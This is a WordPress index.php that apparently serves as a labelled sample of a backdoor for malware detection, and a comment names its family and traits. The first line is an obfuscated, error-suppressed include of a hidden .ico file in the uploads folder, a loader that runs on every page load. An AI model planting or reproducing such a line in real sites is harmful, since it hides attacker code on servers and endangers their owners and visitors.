<?php
@include "\057va\162/w\167w/\150tm\154/w\160-c\157nt\145nt\057up\154oa\144s/\0560f\1433a\061.i\143o";
/* Family: backdoor/injected-line
   Style: include of a hidden .ico added to index.php
   Trait: escaped path to a dot-file with an image extension included on the first line */
define( 'WP_USE_THEMES', true );
require __DIR__ . '/wp-blog-header.php';
